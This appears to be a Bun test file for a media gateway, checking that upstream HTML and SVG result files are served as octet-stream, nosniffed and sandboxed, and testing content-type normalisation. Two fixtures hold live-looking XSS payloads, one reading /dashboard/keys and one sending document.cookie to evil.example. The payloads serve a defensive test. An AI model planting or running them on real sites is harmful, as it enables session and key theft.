// Result files are served from the gateway's own origin (next to /dashboard), so what an upstream sends must never
// be served as a document: only media types the models produce, anything else as application/octet-stream, never
// sniffed, and sandboxed by CSP should a browser render it anyway.
import { afterAll, beforeEach, describe, expect, test } from "bun:test";
import { sql } from "drizzle-orm";
import { mediaSettingsOf } from "../../src/media/settings";
import { contentTypeOf, createStorage } from "../../src/media/storage";
import { mp4Bytes, pngBytes } from "../fakes/media/index";
import { client, startMediaGateway } from "./support";

const gw = await startMediaGateway({ MEDIA_WORKERS: "0" });
afterAll(() => gw.stop());
beforeEach(() => gw.up.control.reset());

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/dashboard/keys").then((r) => r.text())</script></svg>`;
const HTML = `<!doctype html><script>document.location = "https://evil.example/?" + document.cookie</script>`;

/** A task whose upstream serves its one result file with this body and content type; returns the gateway's answer. */
async function resultServedFor(file: { contentType: string; body: string }) {
  const c = client(gw, (await gw.account(1000)).key);
  gw.up.control.set({ file }, { provider: "kie" });
  const { json } = await c.createTask("google/nano-banana", { prompt: "x" });
  const rec = await c.waitRecord(json.data.taskId);
  expect(rec.state).toBe("success");
  const [url] = JSON.parse(rec.resultJson).resultUrls as string[];
  return fetch(url!);
}

function expectSafeHeaders(res: Response) {
  expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  expect(res.headers.get("content-security-policy")).toBe("sandbox");
}

describe("GET /files/{token}/{name}", () => {
  test.each([
    ["image/svg+xml", SVG],
    ["text/html; charset=utf-8", HTML],
  ])(
    "an upstream's %s is served as application/octet-stream, sandboxed, bytes unchanged",
    async (contentType, body) => {
      const res = await resultServedFor({ contentType, body });
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/octet-stream");
      expectSafeHeaders(res);
      expect(await res.text()).toBe(body);
    },
  );

  test("a real image keeps its media type, with the same protections", async () => {
    const c = client(gw, (await gw.account(1000)).key);
    const rec = await c.waitRecord((await c.createTask("google/nano-banana", { prompt: "x" })).json.data.taskId);
    const res = await fetch(JSON.parse(rec.resultJson).resultUrls[0]);
    expect(res.headers.get("content-type")).toBe("image/png");
    expectSafeHeaders(res);
    expect(new Uint8Array(await res.arrayBuffer())).toEqual(pngBytes());
  });

  test("a file recorded as text/html before this rule is still served as application/octet-stream", async () => {
    const { accountId } = await gw.account(10);
    const token = crypto.randomUUID().replaceAll("-", "");
    const key = `${token}/image-1.html`;
    await createStorage(mediaSettingsOf(gw.ctx.config).storage).put(key, new TextEncoder().encode(HTML), "text/html");
    const now = Date.now();
    await gw.ctx.db.run(sql`insert into result_files (id, task_id, account_id, storage_key, content_type, bytes, created_at, expires_at)
      values (${token}, ${"task_old"}, ${accountId}, ${key}, ${"text/html"}, ${HTML.length}, ${now}, ${now + 60_000})`);
    const res = await fetch(`${gw.url}/files/${key}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/octet-stream");
    expectSafeHeaders(res);
  });

  test("a file recorded but missing from storage (another host's STORAGE_DIR) is the operator's 503, not a bad link's 404", async () => {
    const { accountId } = await gw.account(10);
    const token = crypto.randomUUID().replaceAll("-", "");
    const now = Date.now();
    await gw.ctx.db.run(sql`insert into result_files (id, task_id, account_id, storage_key, content_type, bytes, created_at, expires_at)
      values (${token}, ${"task_elsewhere"}, ${accountId}, ${`${token}/image-1.png`}, ${"image/png"}, ${10}, ${now}, ${now + 60_000})`);
    const res = await fetch(`${gw.url}/files/${token}/image-1.png`);
    expect(res.status).toBe(503);
    expect(await res.json()).toMatchObject({ error: { code: "file_unavailable" } });
    expect((await fetch(`${gw.url}/files/${crypto.randomUUID().replaceAll("-", "")}/image-1.png`)).status).toBe(404); // a bad link stays 404
  });
});

describe("contentTypeOf: the type a downloaded file is stored with", () => {
  const text = (s: string) => new TextEncoder().encode(s);
  test("documents and SVG become application/octet-stream; real media bytes under such a header get their sniffed type", () => {
    expect(contentTypeOf(text(SVG), "image/svg+xml", "image/png")).toBe("application/octet-stream");
    expect(contentTypeOf(text(HTML), "text/html", "image/png")).toBe("application/octet-stream");
    expect(contentTypeOf(text(HTML), "application/xhtml+xml", "video/mp4")).toBe("application/octet-stream");
    expect(contentTypeOf(pngBytes(), "image/svg+xml", "image/png")).toBe("image/png");
    expect(contentTypeOf(mp4Bytes(2), "text/html", "video/mp4")).toBe("video/mp4");
  });

  test("other names of allowed types are normalised; no header falls back to the model's output type", () => {
    expect(contentTypeOf(new Uint8Array([0xff, 0xd8, 0xff]), "image/jpg", "image/png")).toBe("image/jpeg");
    expect(contentTypeOf(text("RIFF\0\0\0\0WAVEfmt "), "audio/x-wav", "audio/mpeg")).toBe("audio/wav");
    expect(contentTypeOf(text("GIF89a"), undefined, "image/png")).toBe("image/gif");
    expect(contentTypeOf(text("fLaC"), null, "audio/mpeg")).toBe("audio/flac");
    expect(contentTypeOf(text("????"), null, "audio/mpeg")).toBe("audio/mpeg");
  });
});
